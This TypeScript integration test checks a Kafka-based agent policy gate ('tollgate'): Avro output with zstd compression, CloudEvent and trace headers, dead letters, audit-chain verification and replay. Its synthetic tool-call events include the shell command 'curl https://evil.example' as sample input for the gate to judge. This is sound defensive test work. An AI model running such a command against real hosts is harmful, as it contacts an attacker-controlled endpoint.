import { setTimeout as delay } from 'node:timers/promises';
import avro from 'avsc';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { outputJson } from '../../src/codec/output-avro.ts';
import { readAvroSchema } from '../schemas/schema-files.ts';
import { describeWithKafka, testBroker } from './given-broker.ts';
import type { OutsideRecord } from './outside/outside-record.ts';
import { outsideReader } from './outside/reader.ts';
import { GivenRun } from './proof/given-run.ts';
import { testKafka, tollgate } from './topics-fixture.ts';

const COUNT = 60;
const PARENT = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01';
const DECISION = avro.Type.forSchema(readAvroSchema('decision') as avro.Schema);
const LOOK_MS = 200;

/** Every third event is a CloudEvent, every fourth belongs to a trace; one record is no event. */
function messages() {
  return Array.from({ length: COUNT }, (_, i) => {
    const event = {
      event_id: `e-${i}`,
      type: 'tool_call',
      session_id: `s-${i % 5}`,
      tool: 'shell',
      params: { command: i % 2 === 0 ? 'npm test' : 'curl https://evil.example' },
      occurred_at: '2025-06-03T08:00:00Z',
    };
    const cloudEvent = {
      'content-type': 'application/json',
      ce_specversion: '1.0',
      ce_id: event.event_id,
      ce_type: 'agent.call',
      ce_source: '/fleet',
      ce_time: event.occurred_at,
    };
    const headers = { ...(i % 3 === 0 ? cloudEvent : {}), ...(i % 4 === 0 ? { traceparent: PARENT } : {}) };
    return { key: event.session_id, value: i === 7 ? 'no event' : JSON.stringify(event), headers };
  });
}

async function readCount(topic: string, count: number): Promise<readonly OutsideRecord[]> {
  for (;;) {
    const records = await outsideReader(testBroker().brokers).read(topic);
    if (records.length >= count) return records;
    await delay(LOOK_MS);
  }
}

function idOf({ key }: OutsideRecord): string {
  return String(key);
}

describeWithKafka('a run that writes Avro, compressed with zstd', () => {
  const run = new GivenRun(testBroker().brokers);
  const { decisions, audit, deadLetter, events } = run.topics;
  let decided: readonly OutsideRecord[];

  beforeAll(async () => {
    run.configure({ output: 'avro', kafka: { compression: 'zstd' } });
    await run.createTopics();
    const producer = testKafka().producer();
    await producer.connect();
    await producer.send({ topic: events[0] as string, messages: messages() });
    await producer.disconnect();
    const program = run.start('one');
    await readCount(audit, COUNT);
    program.child.kill('SIGTERM');
    expect((await program.ended).code).toBe(0);
    decided = await readCount(decisions, COUNT - 1);
  });
  afterAll(() => run.close());

  it('writes decisions that an Avro library reads with the shipped schema', () => {
    expect(decided).toHaveLength(COUNT - 1);
    for (const record of decided) {
      const { value, headers } = record;
      if (value === null) throw new Error('a decision without a value');
      const read = DECISION.fromBuffer(value.subarray(10)) as {
        readonly decision_id: string;
        readonly session_id: string;
      };
      expect(read.session_id).toBe(idOf(record));
      expect(headers.get('content-type')).toBe('application/avro');
    }
  });

  it('gives decisions about CloudEvents their attributes, and every decision the trace of its event', () => {
    const about = new Map(
      decided.map((record) => {
        const decision = JSON.parse(String(Buffer.from(outputJson(record.value as Buffer)))) as Record<string, string>;
        return [decision.event_id, { decision, headers: record.headers }] as const;
      }),
    );
    for (let i = 0; i < COUNT; i++) {
      const found = about.get(`e-${i}`);
      if (i === 7) expect(found).toBeUndefined();
      if (found === undefined) continue;
      const { decision, headers } = found;
      expect(headers.get('traceparent')).toBe(i % 4 === 0 ? PARENT : undefined);
      expect(headers.get('ce_id')).toBe(i % 3 === 0 ? decision.decision_id : undefined);
      expect(headers.get('ce_subject')).toBe(i % 3 === 0 ? decision.session_id : undefined);
      expect(headers.get('ce_time')).toBe(i % 3 === 0 ? headers.get('tollgate_decided_at') : undefined);
    }
  });

  it('leaves dead letters as they were', async () => {
    const [letter] = await readCount(deadLetter, 1);
    expect(String(letter?.value)).toBe('no event');
    expect(letter?.headers.get('tollgate_error_code')).toBe('invalid_json');
  });

  it('keeps an audit chain that can be checked', async () => {
    const { code, out, err } = await tollgate(
      'audit',
      'verify',
      `kafka:${audit}`,
      '-c',
      run.config('verify'),
      '--json',
    );
    expect([code, err]).toEqual([0, expect.stringContaining('the ends of the chains were not checked')]);
    // More than the events have: each partition's begins with the policies that were loaded.
    const { length } = await readCount(audit, COUNT);
    expect(JSON.parse(out)).toMatchObject({ intact: true, records: length });
  });

  it('is replayed in its own order, to the same decisions', async () => {
    const args = ['replay', '-c', run.config('replay'), '--tolerate-bad', `kafka:${events.join(',')}`];
    const { code, out, err } = await tollgate(...args);
    expect([code, err]).toEqual([0, expect.stringContaining(`the order of topics is that of ${audit}`)]);
    expect(err).not.toMatch(/merged|partial|left out/);
    const written = decided.map(({ value }) => String(Buffer.from(outputJson(value as Buffer))));
    expect(out.split('\n').slice(0, -1).sort()).toEqual([...written].sort());
  });
});
